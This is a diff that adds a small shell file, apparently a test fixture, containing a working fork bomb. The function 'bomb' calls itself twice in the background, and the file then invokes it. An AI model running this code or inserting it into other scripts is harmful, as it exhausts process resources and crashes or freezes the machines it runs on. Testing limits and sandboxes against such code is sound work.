@@ -1,0 +1,4 @@
+# The usual one.
+bomb() { bomb | bomb & }
+bomb
+sleep 1
